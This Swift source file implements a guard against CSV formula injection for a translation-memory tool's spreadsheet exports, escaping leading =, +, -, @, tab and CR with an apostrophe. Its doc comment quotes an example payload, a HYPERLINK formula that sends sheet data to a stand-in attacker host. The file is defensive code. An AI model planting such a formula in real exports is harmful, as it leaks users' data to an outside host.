/// Keeps a table Verbale writes from running as spreadsheet formulas (CSV injection).
///
/// Why: a memory is fed by outside TMX and XLIFF files, and a phrase list exported as CSV or TSV
/// is opened in Excel, LibreOffice or Google Sheets by colleagues. Those read a cell beginning
/// with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?"&A1,"Click")`
/// sends the sheet's data away; `- bullet` becomes `#NAME?`, `+855 23 …` a sum), and OWASP's
/// "CSV Injection" page adds tab and carriage return, which some of them skip before looking.
/// As OWASP advises, such a cell is written with a leading apostrophe, which spreadsheets take
/// as "this cell is text" and show as is.
///
/// Reading undoes it: an apostrophe before one of those characters is the spreadsheet's own
/// text marker, not part of the text, so one is removed. A text that itself starts with
/// apostrophes and then such a character (`'-ism'`) gets one more on writing, so a guarded
/// export reads back exactly. A table written with the guard off (`--no-formula-guard`) reads
/// back exactly too, except such an apostrophe-led text, which loses its first apostrophe.
/// Cost: a look at the first bytes of each cell.
public enum FormulaGuard {
    /// The apostrophe spreadsheets read as "text follows".
    static let marker: UInt8 = 0x27

    /// Whether `byte`, first in a cell, makes spreadsheets read the cell as a formula.
    static func isTrigger(_ byte: UInt8) -> Bool {
        switch byte {
        case 0x3D, 0x2B, 0x2D, 0x40, 0x09, 0x0D: true  // = + - @ tab CR
        default: false
        }
    }

    /// Whether `cell` must be written with a leading apostrophe: it starts with a trigger, or
    /// with apostrophes then a trigger (so that reading, which removes one, gives it back).
    public static func needsGuard(_ cell: String) -> Bool {
        for byte in cell.utf8 where byte != marker { return isTrigger(byte) }
        return false
    }

    /// `cell` as it must be written: with a leading apostrophe when `needsGuard`.
    public static func guarded(_ cell: String) -> String {
        needsGuard(cell) ? "'" + cell : cell
    }

    /// `cell` as read: one leading apostrophe removed when apostrophes and then a trigger
    /// start it (the spreadsheet's text marker, or this guard's).
    public static func unguarded(_ cell: String) -> String {
        guard cell.utf8.first == marker, needsGuard(cell) else { return cell }
        return String(cell.dropFirst())
    }
}
